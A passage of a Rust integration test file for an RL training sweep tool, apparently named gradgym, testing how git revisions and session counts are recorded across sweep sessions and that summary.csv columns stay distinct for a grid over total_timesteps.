    fs::remove_dir_all(out.join("runs/CartPole-v1__a2c__seed2")).unwrap();
    let o = sweep(&file, &out, &[]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains(&format!(
            "earlier sessions of the sweep in {} ran gradgym revision 0123abc; this one runs {now}",
            out.display()
        )),
        "{}",
        text(&o)
    );
    assert_eq!(read()["git_revision"], serde_json::json!(now));
    assert_eq!(read()["git_revisions"], serde_json::json!(["0123abc", now]));
    assert_eq!(read()["sessions"], 2);
    // A third session of this revision adds nothing to the list; the note still names the
    // other one.
    fs::remove_dir_all(out.join("runs/CartPole-v1__a2c__seed2")).unwrap();
    let o = sweep(&file, &out, &[]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("0123abc"), "{}", text(&o));
    assert_eq!(read()["git_revisions"], serde_json::json!(["0123abc", now]));
    assert_eq!(read()["sessions"], 3);
}

/// A grid over `total_timesteps` gets its own column, and the steps each run took stay in the
/// tail as `total_timesteps_run`: no two columns of summary.csv share a name.
#[test]
fn a_grid_over_the_budget_keeps_summary_columns_apart() {
    let file = write_sweep(
        "budget-grid",
        r#"
seeds = [1]
config = { eval_episodes = 1, num_envs = 2, num_steps = 100 }
[[runs]]
envs = ["CartPole-v1"]
algos = ["a2c"]
grid = { total_timesteps = [300, 600] }
"#,
    );
    let out = scratch("budget-grid");
    let o = sweep(&file, &out, &["--quiet"]);
    assert!(o.status.success(), "{}", text(&o));
    let summary = fs::read_to_string(out.join("summary.csv")).unwrap();
    let header: Vec<&str> = summary.lines().next().unwrap().split(',').collect();
    let distinct: std::collections::BTreeSet<&&str> = header.iter().collect();
    assert_eq!(distinct.len(), header.len(), "{header:?}");
    let budget = header.iter().position(|h| *h == "total_timesteps").unwrap();
    let run = header
        .iter()
        .position(|h| *h == "total_timesteps_run")
        .unwrap();
    // 300 asked, whole rollouts of 2 × 100 steps taken: 200.
    let first: Vec<&str> = summary.lines().nth(1).unwrap().split(',').collect();
    assert_eq!((first[budget], first[run]), ("300", "200"), "{summary}");
    let o = gradgym(&["report", out.to_str().unwrap(), "--reps", "10"]);
    assert!(o.status.success(), "{}", text(&o));
}
